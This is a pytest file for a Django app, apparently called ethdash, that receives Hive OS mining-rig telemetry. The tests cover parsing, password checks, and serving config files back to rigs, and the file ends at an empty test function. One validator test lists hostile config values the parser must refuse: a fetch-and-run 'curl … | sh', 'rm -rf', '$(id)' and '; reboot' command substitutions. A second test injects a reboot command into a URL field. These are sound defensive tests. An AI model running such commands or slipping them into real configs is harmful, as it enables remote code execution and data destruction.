"""The real Hive OS agent pointed at ethdash: /worker/api, its hello and stats, its password.

Requests are built as minershive/hiveos-linux builds them (hive/bin/hello, hive/bin/agent): the
same JSON (rigs/tests/fixtures/hiveos/), and in the live tests the same shell pipeline, the system
`echo | gzip | curl` with the agent's exact arguments, against a live server.
"""

import gzip
import json
import os
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from accounts.models import hash_token
from rigs.formats import hiveos, hiveos_conf
from rigs.models import Gpu, GpuSample, HiveConfig, Rig
from rigs.services import hive_agent
from tests.factories import RigFactory, logged_in

FIXTURES = Path(__file__).parent / "fixtures" / "hiveos"
URL = "/worker/api"
# Detection order of the fixture rig (iGPU 00:02.0, 01:00.0, 03:00.0, 0a:00.0); its miner lists
# bus 10 first.
DETECTED = [0, 1, 3, 10]

# hive/bin/agent, AGENT_GZIP=1 and AGENT_GZIP=0 branches, and hive/bin/hello, verbatim but for the
# ssl-session option (empty unless SSL_SESSION_FILE is set).
AGENT_STATS_GZIP = (
    "echo $request | gzip -9 -c -f | curl --insecure -L --data-binary @- "
    "--connect-timeout 7 --max-time 15 --silent "
    '-H "Content-Encoding: gzip" -H "Content-Type:" -H "User-Agent:" -H "Accept:" '
    '-XPOST "${HIVE_URL}?id_rig=$RIG_ID&method=stats"'
)
AGENT_STATS_PLAIN = (
    "echo $request | curl --insecure -L --data @- "
    "--connect-timeout 7 --max-time 15 --silent "
    '-H "Content-Type:" -H "User-Agent:" -H "Accept:" '
    '-XPOST "${HIVE_URL}?id_rig=$RIG_ID&method=stats"'
)
AGENT_HELLO = (
    "echo $request | curl --insecure -L --data @- --connect-timeout 7 --max-time 15 --silent "
    '-XPOST "${HIVE_URL}?id_rig=$RIG_ID&method=hello" -H "Content-Type: application/json"'
)


def fixture(name, rig=None, password=""):
    body = json.loads((FIXTURES / f"{name}.json").read_text())
    if rig is not None:  # what rig.conf's RIG_ID and RIG_PASSWD put into every request
        body["params"]["rig_id"], body["params"]["passwd"] = str(rig.pk), password
    return body


def gzip_body(data):
    """What the agent's `gzip -9 -c -f` makes of its body."""
    return gzip.compress(data, compresslevel=9)


def compact(body):
    return json.dumps(body, separators=(",", ":"))  # jq -c


@pytest.fixture
def rig(db):
    return RigFactory(name="hive-rig")


@pytest.fixture
def password(rig):
    return hive_agent.set_hive_password(rig)


def post(client, rig, body, *, method="stats", gzipped=False, content_type=""):
    data = compact(body).encode()
    headers = {"HTTP_CONTENT_ENCODING": "gzip"} if gzipped else {}
    return client.post(
        f"{URL}?id_rig={rig.pk}&method={method}",
        data=gzip.compress(data, compresslevel=9) if gzipped else data,
        content_type=content_type,
        **headers,
    )


def by_bus(rig):
    return {g.pci_bus: g for g in Gpu.objects.filter(rig=rig)}


# -- the format -------------------------------------------------------------------------------


def test_agent_arrays_pair_by_pci_bus_not_by_position():
    reading = hiveos.parse_stats(fixture("stats"), detected_buses=DETECTED)

    figures = {
        g.pci_bus: (g.hashrate_hs, g.temperature_c, g.fan_pct, g.power_w) for g in reading.gpus
    }
    # The miner's first GPU is the AMD card on bus 10, the agent's last: its power is 142 W,
    # not the iGPU's 0 nor bus 1's 118 W that position would give.
    assert figures == {
        10: (pytest.approx(61204.5e3), 66, 72, 142),
        1: (pytest.approx(44012.3e3), 58, 55, 118),
        3: (pytest.approx(42973.9e3), 61, 60, 121),
    }
    assert [g.shares_invalid for g in reading.gpus] == [1, 0, 1]
    assert (reading.shares_accepted, reading.shares_rejected, reading.shares_invalid) == (
        5120,
        6,
        2,
    )
    assert reading.hashrate_hs == pytest.approx(148190.7e3)  # total_khs, the miner's own total
    assert (reading.miner, reading.version, reading.algorithm) == ("lolminer", "1.76", "etchash")
    assert reading.pool_url == "etc.2miners.com:1010"  # meta.<miner>.server of the flight sheet


def test_agent_temperature_wins_over_the_miners_and_memory_temperature_pairs_the_same_way():
    body = fixture("stats")
    body["params"]["temp"] = [0, 57, 60, 67]  # the driver's reading, a moment later than the miner
    body["params"]["mtemp"] = [0, 74, 78, 90]
    reading = hiveos.parse_stats(body, detected_buses=DETECTED)
    assert {g.pci_bus: (g.temperature_c, g.memory_temperature_c) for g in reading.gpus} == {
        10: (67, 90),
        1: (57, 74),
        3: (60, 78),
    }


@pytest.mark.parametrize("detected", [[], [1, 3, 10]], ids=["no-hello-yet", "length-differs"])
def test_agent_arrays_that_cannot_be_paired_are_not_used(detected):
    reading = hiveos.parse_stats(fixture("stats"), detected_buses=detected)
    # Only what the miner itself reports, in its own order: no power (its h-stats gives none).
    assert {g.pci_bus: (g.temperature_c, g.fan_pct, g.power_w) for g in reading.gpus} == {
        10: (66, 72, None),
        1: (58, 55, None),
        3: (61, 60, None),
    }


@pytest.mark.parametrize("hs_as_text", [False, True])
def test_numbers_sent_as_strings_are_read_as_numbers(hs_as_text):
    # An agent before hive/bin/sanitize: total_khs, gpu-stats' temp/fan/power and the miner's
    # ar, temp and fan all arrive as strings (jq --arg).
    body = fixture("stats_old_agent")
    if hs_as_text:  # a script building hs with --arg as well
        body["params"]["miner_stats"]["hs"] = ["13467", "13524"]
    reading = hiveos.parse_stats(body, detected_buses=[1, 2])

    assert reading.hashrate_hs == 26_991_000.0
    shares = (reading.shares_accepted, reading.shares_rejected, reading.shares_invalid)
    assert shares == (5120, 6, 0)
    figures = [
        (g.pci_bus, g.hashrate_hs, g.temperature_c, g.fan_pct, g.power_w, g.shares_invalid)
        for g in reading.gpus
    ]
    assert figures == [(1, 13_467_000.0, 48, 100, 121, 0), (2, 13_524_000.0, 56, 97, 135, 0)]
    # Without the detection order, the miner's own strings are read.
    unpaired = hiveos.parse_stats(body).gpus
    assert [(g.temperature_c, g.fan_pct, g.power_w) for g in unpaired] == [
        (47, 101, None), (55, 98, None),
    ]  # fmt: skip


def test_host_figures_of_the_stats_body():
    assert hiveos.parse_host(fixture("stats")) == {
        "disk_free_bytes": 12 * 1024**3,
        "memory_total_mb": 3842,
        "memory_available_mb": 2650,
        "load_average": [0.52, 0.44, 0.41],
    }


@pytest.mark.parametrize(("cputemp", "expected"), [(47, 47), ([45, 51], 51), ("52", 52), (0, None)])
def test_cpu_temperature_where_the_agent_sends_it(cputemp, expected):
    body = fixture("stats")
    body["params"]["cputemp"] = cputemp
    assert hiveos.parse_host(body).get("cpu_temperature_c") == expected


def test_hello_lists_the_mining_gpus_and_the_detection_order():
    hello = hiveos.parse_hello(fixture("hello"))
    assert hello.detected_buses == DETECTED  # the iGPU counts in the agent's arrays
    assert [(g.pci_bus, g.name, g.vendor, g.memory_mb) for g in hello.gpus] == [
        (1, "GeForce RTX 3070", "NVIDIA", 8192),
        (3, "GeForce RTX 3060 Ti", "NVIDIA", 8192),
        (10, "Radeon RX 6800", "AMD", 16368),
    ]
    assert hello.host["motherboard"] == "ASRock H110 Pro BTC+"
    assert hello.host["hive_version"] == "0.6-225@230511"


def test_decode_request_takes_plain_and_gzip_bodies():
    body = fixture("stats")
    raw = (compact(body) + "\n").encode()
    assert hiveos.decode_request(raw) == body
    assert hiveos.decode_request(gzip_body(raw), "gzip") == body


@pytest.mark.parametrize(
    ("raw", "encoding", "why"),
    [
        (b"\x1f\x8b\x08\x00garbage", "gzip", "not valid gzip"),
        (gzip.compress(b"{not json"), "gzip", "not JSON"),
        (gzip.compress(b"{}"), "", "says no Content-Encoding"),
        (b'{"method": "stats"}', "", "'params' object"),
        (b"[1, 2]", "", "'params' object"),
        (b"{}", "br", "Content-Encoding 'br'"),
        (gzip.compress(b" " * (hiveos.MAX_BODY_BYTES + 10)), "gzip", "inflates beyond"),
    ],
)
def test_decode_request_refuses_what_the_agent_never_sends(raw, encoding, why):
    with pytest.raises(hiveos.BadRequest, match=why):
        hiveos.decode_request(raw, encoding)


# -- /worker/api through Django's test client -------------------------------------------------


def test_hello_stores_the_hardware_and_leaves_the_rigs_configuration_alone(rig, password):
    response = post(Client(), rig, fixture("hello", rig, password), method="hello",
                    content_type="application/json")  # fmt: skip

    assert response.status_code == 200
    answer = response.json()
    # An error, so that hello writes none of rig.conf, wallet.conf, nvidia-oc.conf, amd-oc.conf.
    assert answer["id"] == 0 and "result" not in answer
    assert answer["error"]["code"] == -32002
    assert "no copy of this rig's rig.conf" in answer["error"]["message"]
    gpus = by_bus(rig)
    assert {bus: (g.name, g.vendor, g.memory_mb) for bus, g in gpus.items()} == {
        1: ("GeForce RTX 3070", "NVIDIA", 8192),
        3: ("GeForce RTX 3060 Ti", "NVIDIA", 8192),
        10: ("Radeon RX 6800", "AMD", 16368),
    }
    rig.refresh_from_db()
    assert rig.hive_detected_buses == DETECTED
    assert rig.hive_hello["cpu_model"].startswith("Intel(R) Celeron(R)")


def test_stats_after_hello_land_on_the_gpus_of_their_bus(rig, password):
    client = Client()
    post(client, rig, fixture("hello", rig, password), method="hello")

    response = post(client, rig, fixture("stats", rig, password), gzipped=True)

    assert response.status_code == 200, response.content
    assert response.json() == {"jsonrpc": "2.0", "id": None, "result": {"command": "OK"}}
    gpus = by_bus(rig)
    figures = {
        bus: (g.hashrate_hs, g.temperature_c, g.fan_pct, g.power_w) for bus, g in gpus.items()
    }
    assert figures == {
        1: (pytest.approx(44012.3e3), 58, 55, 118),
        3: (pytest.approx(42973.9e3), 61, 60, 121),
        10: (pytest.approx(61204.5e3), 66, 72, 142),
    }
    assert GpuSample.objects.filter(gpu__rig=rig).count() == 3
    rig.refresh_from_db()
    assert (rig.status, rig.miner, rig.pool_url) == ("online", "lolminer", "etc.2miners.com:1010")
    assert rig.hive_host["memory_total_mb"] == 3842


def test_hello_never_gives_a_cpu_a_gpus_bus(rig, password):
    # A CPU-only miner reported first: the CPU is device 0, without a bus, like the first GPU of
    # the hello that follows.
    body = fixture("stats", rig, password)
    body["params"].update(miner="xmrig", total_khs=2.5)
    body["params"]["miner_stats"] = {"hs": [1250.0, 1250.0], "ar": ["9", "0"], "algo": "rx/0"}
    client = Client()
    post(client, rig, body)
    (cpu,) = Gpu.objects.filter(rig=rig)
    assert (cpu.kind, cpu.index, cpu.pci_bus) == ("cpu", 0, None)

    post(client, rig, fixture("hello", rig, password), method="hello")

    cpu.refresh_from_db()
    assert (cpu.kind, cpu.pci_bus, cpu.name) == ("cpu", None, "")
    gpus = Gpu.objects.filter(rig=rig, kind=Gpu.Kind.GPU)
    assert sorted(g.pci_bus for g in gpus) == [1, 3, 10]


def test_stats_without_content_type_or_gzip_are_taken_too(rig, password):
    response = post(Client(), rig, fixture("stats", rig, password))
    assert response.status_code == 200
    assert response.json()["result"] == {"command": "OK"}
    assert GpuSample.objects.filter(gpu__rig=rig).count() == 3


def test_a_miner_that_answers_nothing_is_a_reading_with_no_gpu_reporting(rig, password):
    client = Client()
    post(client, rig, fixture("stats", rig, password))
    body = fixture("stats", rig, password)
    # hive/bin/agent when the miner's h-stats.sh got nothing: stats="null", khs=0.
    body["params"].update(miner_stats=None, total_khs=0)

    response = post(client, rig, body)

    assert response.json()["result"] == {"command": "OK"}  # the agent keeps its link alive
    rig.refresh_from_db()
    assert (rig.status, rig.gpus_reporting) == ("degraded", 0)
    assert rig.status_reason.startswith("0 of 3 GPUs reporting")


@pytest.mark.parametrize("wrong", ["", "not-the-password", None])
def test_a_wrong_password_is_a_jsonrpc_error_with_401_and_stores_nothing(rig, password, wrong):
    body = fixture("stats", rig, password)
    body["params"]["passwd"] = wrong
    response = post(Client(), rig, body)
    assert response.status_code == 401
    assert response.json()["error"]["code"] == -32001
    assert GpuSample.objects.count() == 0 and not Gpu.objects.filter(rig=rig).exists()


def test_a_rig_without_a_hive_password_takes_no_request(rig):
    response = post(Client(), rig, fixture("stats", rig, ""))
    assert response.status_code == 401


def test_rig_a_password_cannot_push_to_rig_b(rig, password):
    other = RigFactory(name="other-rig")
    hive_agent.set_hive_password(other)
    client = Client()
    as_other = fixture("stats", other, password)  # B's id, A's password
    assert post(client, other, as_other).status_code == 401
    # A's id in the query, B's in the body (or the reverse): refused, whatever the password.
    mixed = fixture("stats", other, password)
    assert (
        client.post(
            f"{URL}?id_rig={rig.pk}&method=stats", compact(mixed), content_type=""
        ).status_code
        == 401
    )
    assert GpuSample.objects.count() == 0


def test_a_new_password_replaces_the_old_one(rig, password):
    new = hive_agent.set_hive_password(rig)
    assert post(Client(), rig, fixture("stats", rig, password)).status_code == 401
    assert post(Client(), rig, fixture("stats", rig, new)).status_code == 200
    rig.refresh_from_db()
    assert rig.hive_password_hash == hash_token(new) and new not in rig.hive_password_hash


@pytest.mark.parametrize(
    ("data", "headers"),
    [
        (b"\x1f\x8b\x08\x00\x00garbled", {"HTTP_CONTENT_ENCODING": "gzip"}),
        (b"method=stats&rig_id=1", {}),
        (b'{"method": "stats", "params": {"rig_id": "1"', {}),
    ],
    ids=["bad-gzip", "form", "truncated"],
)
def test_a_garbled_body_is_a_400_and_changes_nothing(rig, password, data, headers):
    response = Client().post(
        f"{URL}?id_rig={rig.pk}&method=stats", data=data, content_type="", **headers
    )
    assert response.status_code == 400
    assert response.json()["error"]["code"] == -32700
    assert GpuSample.objects.count() == 0


def test_a_stats_body_the_agent_does_not_build_is_a_400(rig, password):
    body = fixture("stats", rig, password)
    body["params"]["miner_stats"]["hs_units"] = "furlongs"
    response = post(Client(), rig, body)
    assert response.status_code == 400
    assert "hs_units" in response.json()["error"]["message"]
    assert GpuSample.objects.count() == 0


def test_a_hello_with_an_unusable_gpu_list_is_a_400_and_stores_nothing(rig, password):
    body = fixture("hello", rig, password)
    body["params"]["gpu"] = "01:00.0"
    response = post(Client(), rig, body, method="hello")
    assert response.status_code == 400
    assert not Gpu.objects.filter(rig=rig).exists()


def test_methods_ethdash_does_not_take(rig, password):
    message = {"method": "message", "jsonrpc": "2.0", "id": 0,
               "params": {"rig_id": str(rig.pk), "passwd": password, "type": "warning",
                          "data": "Low hashrate, restarting miner"}}  # fmt: skip
    response = post(Client(), rig, message, method="message", content_type="application/json")
    assert response.status_code == 404
    assert response.json()["error"]["code"] == -32601
    # The query says one method, the body another.
    response = post(Client(), rig, fixture("stats", rig, password), method="hello")
    assert response.status_code == 400
    assert Client().get(f"{URL}?id_rig={rig.pk}&method=stats").status_code == 405


def test_the_telemetry_endpoint_pairs_by_bus_too_once_hello_was_seen(api, rig, password):
    from tests.factories import ApiTokenFactory

    post(Client(), rig, fixture("hello", rig, password), method="hello")
    token = ApiTokenFactory(farm=rig.farm, scopes=["telemetry"]).raw
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {token}")
    response = api.post(f"/api/v1/rigs/{rig.pk}/telemetry/", fixture("stats"), format="json")
    assert response.status_code == 200, response.json()
    assert by_bus(rig)[10].power_w == 142


# -- the real agent's curl against a live server ----------------------------------------------


def run_agent(command, *, live_server, rig, body, tmp_path, pretty=False):
    """Runs the agent's own shell pipeline; returns curl's output, the answer's body."""
    request = json.dumps(body, indent=2) if pretty else compact(body)  # hello: jq without -c
    env = {
        "PATH": os.environ["PATH"],
        "HIVE_URL": f"{live_server.url}/worker/api",  # HIVE_URL="$HIVE_HOST_URL/worker/api"
        "RIG_ID": str(rig.pk),
        "request": request,
    }
    done = subprocess.run(
        ["bash", "-c", command], env=env, cwd=tmp_path, capture_output=True, timeout=30
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


@pytest.mark.parametrize("command", [AGENT_STATS_GZIP, AGENT_STATS_PLAIN], ids=["gzip", "plain"])
def test_the_agents_own_curl_pushes_hello_then_stats(
    transactional_db, live_server, tmp_path, command
):
    rig = RigFactory(name="curl-rig")
    password = hive_agent.set_hive_password(rig)

    hello = run_agent(
        AGENT_HELLO, live_server=live_server, rig=rig, body=fixture("hello", rig, password),
        tmp_path=tmp_path, pretty=True,
    )  # fmt: skip
    answer = run_agent(
        command, live_server=live_server, rig=rig, body=fixture("stats", rig, password),
        tmp_path=tmp_path,
    )  # fmt: skip

    assert hello["error"]["code"] == -32002
    assert answer["result"]["command"] == "OK"  # agent.do_command.sh: "OK" does nothing
    gpus = by_bus(rig)
    assert {bus: (g.name, g.power_w, g.temperature_c) for bus, g in gpus.items()} == {
        1: ("GeForce RTX 3070", 118, 58),
        3: ("GeForce RTX 3060 Ti", 121, 61),
        10: ("Radeon RX 6800", 142, 66),
    }
    assert Rig.objects.get(pk=rig.pk).status == "online"


def test_the_agents_curl_with_a_wrong_password_gets_an_error_it_reads(
    transactional_db, live_server, tmp_path
):
    rig = RigFactory(name="curl-rig")
    hive_agent.set_hive_password(rig)
    answer = run_agent(
        AGENT_STATS_GZIP, live_server=live_server, rig=rig,
        body=fixture("stats", rig, "guessed"), tmp_path=tmp_path,
    )  # fmt: skip
    # The agent prints "Error response: <.error>" and keeps its miner running.
    assert answer["error"]["code"] == -32001 and "result" not in answer
    assert GpuSample.objects.count() == 0


# -- the password page and the admin action ---------------------------------------------------


def test_the_owner_generates_a_password_that_is_shown_once(alpha):
    client = logged_in(alpha.owner)
    url = f"/rigs/{alpha.rig.pk}/hive-password/"
    assert "no Hive OS password yet" in client.get(url).content.decode()

    page = client.post(url).content.decode()

    alpha.rig.refresh_from_db()
    shown = page.split('RIG_PASSWD="')[1].split('"')[0]
    assert alpha.rig.hive_password_hash == hash_token(shown)
    assert f"RIG_ID={alpha.rig.pk}" in page and 'HIVE_HOST_URL="http://testserver"' in page
    again = client.get(url).content.decode()
    assert shown not in again and "has a Hive OS password since" in again
    assert hive_agent.rig_for_agent(alpha.rig.pk, shown) == alpha.rig


def test_a_viewer_sees_whether_there_is_a_password_but_cannot_set_one(alpha):
    client = logged_in(alpha.viewer)
    page = client.get(f"/rigs/{alpha.rig.pk}/hive-password/").content.decode()
    assert "no Hive OS password yet" in page and "Generate a password" not in page
    response = client.post(f"/rigs/{alpha.rig.pk}/hive-password/")
    assert response.status_code == 403
    alpha.rig.refresh_from_db()
    assert alpha.rig.hive_password_hash == ""


def test_another_farms_owner_cannot_see_or_set_the_rigs_password(alpha, bravo):
    client = logged_in(bravo.owner)
    for method in (client.get, client.post):
        assert method(f"/rigs/{alpha.rig.pk}/hive-password/").status_code == 404
    alpha.rig.refresh_from_db()
    assert alpha.rig.hive_password_hash == ""


def test_the_admin_action_shows_the_password_once_and_the_form_never(alpha):
    admin = get_user_model().objects.create_superuser("root", "root@example.com", "pw")
    client = logged_in(admin)
    response = client.post(
        "/admin/rigs/rig/",
        {"action": "new_hive_password", "_selected_action": [alpha.rig.pk]},
        follow=True,
    )
    page = response.content.decode()
    shown = page.split("RIG_PASSWD=&quot;")[1].split("&quot;")[0]
    alpha.rig.refresh_from_db()
    assert alpha.rig.hive_password_hash == hash_token(shown)
    form = client.get(f"/admin/rigs/rig/{alpha.rig.pk}/change/").content.decode()
    assert shown not in form and alpha.rig.hive_password_hash not in form


def test_fixtures_are_the_agents_shapes():
    # Guards the recorded bodies against edits that the agent could not produce.
    stats, hello = fixture("stats"), fixture("hello")
    assert set(stats["params"]) == {
        "v", "rig_id", "passwd", "meta", "temp", "fan", "power", "df", "mem", "cpuavg",
        "miner", "total_khs", "miner_stats",
    }  # fmt: skip
    # gpu-stats and gpu-detect both list every GPU, the iGPU included, sorted by bus id.
    busids = [g["busid"] for g in hello["params"]["gpu"]]
    assert len(stats["params"]["temp"]) == len(busids) and busids == sorted(busids)


# -- the simulator speaks the same way --------------------------------------------------------


def test_the_simulated_agents_bodies_pair_by_bus():
    from simulators.rig_agent import HiveAgentRig, SimulatedRig

    agent = HiveAgentRig(SimulatedRig("7", 3, "rx6800"), "pw")
    samples = agent.rig.sample(datetime.now(UTC))
    hello = hiveos.parse_hello(agent.hello_body())
    reading = hiveos.parse_stats(agent.stats_body(samples), detected_buses=hello.detected_buses)

    assert hello.detected_buses == [0, 1, 3, 5] and agent.miner_order == [5, 1, 3]
    by_index = {s["gpu"]: s for s in samples}
    for gpu in reading.gpus:
        sample = by_index[agent.buses.index(gpu.pci_bus)]
        assert (gpu.power_w, gpu.temperature_c) == (sample["power_w"], sample["temperature_c"])
        assert gpu.hashrate_hs == pytest.approx(sample["hashrate_hs"], rel=1e-6)
    assert [g.vendor for g in hello.gpus] == ["AMD"] * 3


def test_the_simulated_agents_cpu_miner_is_one_cpu_device():
    from simulators.rig_agent import HiveAgentRig, SimulatedRig

    agent = HiveAgentRig(SimulatedRig("7", 2, "rtx3070"), "pw", cpu_threads=4)
    body = agent.stats_body(agent.rig.sample(datetime.now(UTC)))
    reading = hiveos.parse_stats(body, cpu_model="Intel(R) Celeron(R) CPU G3930 @ 2.90GHz")

    assert [(g.kind, g.pci_bus) for g in reading.gpus] == [("gpu", 3), ("gpu", 1), ("cpu", None)]
    cpu = reading.gpus[-1]
    assert cpu.hashrate_hs == pytest.approx(4 * 890.0 + 0.5 * 6)
    assert (cpu.temperature_c, cpu.other_algorithm) == (62.0, "rx/0")


def test_the_simulated_agent_pushes_to_a_live_server(transactional_db, live_server):
    from simulators.rig_agent import SimulatedRig, run

    rig = RigFactory(name="simulated-hive-rig")
    password = hive_agent.set_hive_password(rig)
    simulated = SimulatedRig(str(rig.pk), 2, "rtx3070", cadence=0.3)

    run(live_server.url, None, [simulated], cadence=0.3, duration=1.0,
        hive={str(rig.pk): password}, hive_gzip=True)  # fmt: skip

    gpus = by_bus(rig)
    assert set(gpus) == {1, 3} and {g.name for g in gpus.values()} == {"GeForce RTX 3070"}
    assert all(g.power_w for g in gpus.values())
    assert GpuSample.objects.filter(gpu__rig=rig).count() >= 2


def test_the_rig_page_shows_what_the_agent_said(alpha):
    password = hive_agent.set_hive_password(alpha.rig)
    post(Client(), alpha.rig, fixture("hello", alpha.rig, password), method="hello")
    post(Client(), alpha.rig, fixture("stats", alpha.rig, password))

    page = logged_in(alpha.viewer).get(f"/rigs/{alpha.rig.pk}/").content.decode()

    assert "ASRock H110 Pro BTC+" in page and "load 0.52 / 0.44 / 0.41" in page
    assert "2650 of 3842 MB free" in page and "12.0\xa0GB free" in page
    assert f"/rigs/{alpha.rig.pk}/hive-password/" in page


# -- hello answered with the rig's own files --------------------------------------------------

HIVE_CONFIG = FIXTURES / "hive-config"
PASTED_PASSWORD = "Xk2f9QpLs0"  # RIG_PASSWD of the Hive rig.conf fixture
# What hive/bin/hello does with its answer, in our own shell: it reads each value with
# `echo $response | jq ".result.<key>" --raw-output`, the response unquoted; without a config it
# stops (exit 3 here) and writes nothing; it writes rig.conf from `config`, wallet.conf and
# autofan.conf when the answer has them (else keeps them), nvidia-oc.conf and amd-oc.conf when
# the answer has them and deletes them when it has not. Each file is written `echo "$value" >`.
HELLO_SAVES = (
    f"response=$({AGENT_HELLO})"
    + """
answer() { local v; v=$(echo $response | jq ".result.$1" --raw-output) || exit 9
  [ "$v" != null ] && printf '%s' "$v"; }
config=$(answer config); [ -n "$config" ] || { echo "$response"; exit 3; }
echo "$config" > rig.conf
for pair in wallet:wallet.conf autofan:autofan.conf nvidia_oc:nvidia-oc.conf amd_oc:amd-oc.conf
do
  value=$(answer ${pair%%:*}); file=${pair#*:}
  if [ -n "$value" ]; then echo "$value" > $file
  elif [ $file = nvidia-oc.conf ] || [ $file = amd-oc.conf ]; then rm -f $file; fi
done
"""
)


def conf(name):
    return (HIVE_CONFIG / name).read_text()


def store_files(rig, *names, confirmed=True):
    field_of = {name: field for field, name in hive_agent.FILE_NAMES.items()}
    fields = {field_of[n]: conf(n) for n in names if n != "rig.conf"}
    return hive_agent.save_hive_config(
        rig=rig, rig_conf=conf("rig.conf"), oc_files_confirmed=confirmed, **fields
    )


ALL_FILES = ("rig.conf", "wallet.conf", "nvidia-oc.conf", "amd-oc.conf", "autofan.conf")


def test_the_fixture_files_are_key_value_lines_and_keep_every_line():
    for name in ALL_FILES:
        assert hiveos_conf.render(hiveos_conf.parse(conf(name))) == conf(name), name
    assert "WORKER_NAME" in hiveos_conf.keys(conf("rig.conf"))
    # wallet.conf's user config spans two lines and is one assignment.
    assert hiveos_conf.keys(conf("wallet.conf")).count("LOLMINER_USER_CONFIG") == 1


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("MINER=lolminer\nrm -rf /hive-config\n", "line 2: not a KEY=value line"),
        ("export MINER=lolminer\n", "not a KEY=value line"),
        ("MINER = lolminer\n", "not a KEY=value line"),
        ("MINER=lolminer; reboot\n", "';' in the value"),
        ("MINER=$(curl -s http://x | sh)\n", "command substitution"),
        ('WORKER_NAME="`hostname`"\n', "command substitution"),
        ('WORKER_NAME="rig $(id)"\n', "command substitution"),
        ("MINER=lolminer MINER2=trex\n", "one KEY=value a line"),
        ("MINER=x|sh\n", "'|' in the value"),
        ('WD_MINHASHES=\'{"lolminer":1}\n', "never closed"),
        ("<html><body>502 Bad Gateway</body></html>\n", "not a KEY=value line"),
    ],
)
def test_a_file_that_is_not_key_value_lines_is_refused(text, why):
    with pytest.raises(hiveos_conf.ConfError, match=why.replace("(", r"\(").replace("|", r"\|")):
        hiveos_conf.parse(text)


def test_values_written_back_read_the_same_in_bash(tmp_path):
    values = {"HIVE_HOST_URL": "http://10.0.0.5:8000", "RIG_ID": "12",
              "RIG_PASSWD": "it's $HOME `id` \"q\" \\ ünï"}  # fmt: skip
    text = hiveos_conf.with_values("# rig\nRIG_ID=99\nMINER=lolminer\nRIG_ID=98\n", values)
    (tmp_path / "rig.conf").write_text(text)
    shown = subprocess.run(
        ["bash", "-c", '. ./rig.conf; printf "%s\\n" "$HIVE_HOST_URL" "$RIG_ID" "$RIG_PASSWD" '
         '"$MINER"'],
        cwd=tmp_path, capture_output=True, text=True, check=True,
    ).stdout.splitlines()  # fmt: skip
    assert shown == [*values.values(), "lolminer"]
    # RIG_ID rewritten in place, its later duplicate dropped, the missing keys beside it.
    assert text.splitlines()[:3] == ["# rig", "RIG_ID=12", 'HIVE_HOST_URL="http://10.0.0.5:8000"']


def test_the_pasted_rig_password_is_never_stored(rig):
    pasted = conf("rig.conf") + '#RIG_PASSWD="an-older-one"\n'
    config, removed = hive_agent.save_hive_config(rig=rig, rig_conf=pasted, oc_files_confirmed=True)
    assert removed == 2
    stored = HiveConfig.objects.filter(pk=config.pk).values().get()
    assert not any(PASTED_PASSWORD in str(v) or "an-older-one" in str(v) for v in stored.values())
    # Left as a bare RIG_PASSWD= where it was; every other line as pasted, comments included.
    assert stored["rig_conf"] == conf("rig.conf").replace(f'"{PASTED_PASSWORD}"', "")


def test_a_browsers_crlf_line_ends_are_stored_as_the_rigs_lf(rig):
    # A textarea posts CRLF; a \r left in rig.conf would end up in every value the rig reads.
    crlf = {name: conf(name).replace("\n", "\r\n") for name in ("rig.conf", "wallet.conf")}
    config, _ = hive_agent.save_hive_config(rig=rig, rig_conf=crlf["rig.conf"],
                                            wallet_conf=crlf["wallet.conf"],
                                            oc_files_confirmed=True)  # fmt: skip
    assert config.wallet_conf == conf("wallet.conf")
    assert config.rig_conf == conf("rig.conf").replace(f'"{PASTED_PASSWORD}"', "")


def test_a_rig_conf_of_only_the_lines_ethdash_sets_is_refused(rig):
    snippet = 'HIVE_HOST_URL="https://ethdash.example"\nRIG_ID=7\nRIG_PASSWD="x"\n'
    with pytest.raises(hiveos_conf.ConfError, match="paste the whole file"):
        hive_agent.save_hive_config(rig=rig, rig_conf=snippet, oc_files_confirmed=True)
    assert not HiveConfig.objects.exists()


def test_hello_is_answered_with_the_rigs_files_in_the_shape_hello_reads(rig, password):
    store_files(rig, *ALL_FILES)

    response = post(Client(), rig, fixture("hello", rig, password), method="hello",
                    content_type="application/json")  # fmt: skip

    assert response.status_code == 200
    answer = response.json()
    assert set(answer) == {"jsonrpc", "id", "result"} and answer["id"] == 0
    result = answer["result"]
    assert set(result) == {"config", "wallet", "nvidia_oc", "amd_oc", "autofan"}
    assert result["config"] == (
        conf("rig.conf")
        .replace(
            'HIVE_HOST_URL="http://api.hiveos.farm"', 'HIVE_HOST_URL="https://ethdash.example"'
        )
        .replace("RIG_ID=7310425", f"RIG_ID={rig.pk}")
        .replace(f'RIG_PASSWD="{PASTED_PASSWORD}"', f'RIG_PASSWD="{password}"')
        .rstrip("\n")  # hello's `echo "$config" > rig.conf` ends the file with its newline
    )
    assert result["wallet"] == conf("wallet.conf").rstrip("\n")
    assert result["nvidia_oc"] == conf("nvidia-oc.conf").rstrip("\n")
    assert result["amd_oc"] == conf("amd-oc.conf").rstrip("\n")
    assert result["autofan"] == conf("autofan.conf").rstrip("\n")
    assert set(by_bus(rig)) == {1, 3, 10}  # the hardware is stored as before
    # No space between tokens, none inside strings: `echo $response` leaves the text whole.
    assert b" " not in response.content


@pytest.mark.parametrize(
    "names",
    [("rig.conf",), ("rig.conf", "wallet.conf"), ("rig.conf", "nvidia-oc.conf", "autofan.conf")],
)
def test_hello_answers_only_the_files_stored(rig, password, names):
    store_files(rig, *names)
    result = post(Client(), rig, fixture("hello", rig, password), method="hello").json()["result"]
    answer_key = {"rig.conf": "config", "wallet.conf": "wallet", "nvidia-oc.conf": "nvidia_oc",
                  "amd-oc.conf": "amd_oc", "autofan.conf": "autofan"}  # fmt: skip
    assert set(result) == {answer_key[n] for n in names}


@pytest.mark.parametrize(
    ("confirmed", "server_url", "why"),
    [
        (False, "https://ethdash.example", "not confirmed complete"),
        (True, "ethdash.example", "not an http(s) URL"),
        (True, 'https://ethdash.example"; reboot; "', "not an http(s) URL"),
        (True, None, "not an http(s) URL"),
    ],
)
def test_hello_is_answered_with_an_error_when_ethdash_cannot_give_the_files(
    rig, password, confirmed, server_url, why
):
    store_files(rig, *ALL_FILES, confirmed=confirmed)
    body = fixture("hello", rig, password)
    body["params"]["server_url"] = server_url
    answer = post(Client(), rig, body, method="hello").json()
    assert "result" not in answer and answer["error"]["code"] == -32002
    assert why in answer["error"]["message"]


def test_the_agents_hello_writes_the_rigs_files_back_byte_for_byte_and_keeps_reporting(
    transactional_db, live_server, tmp_path
):
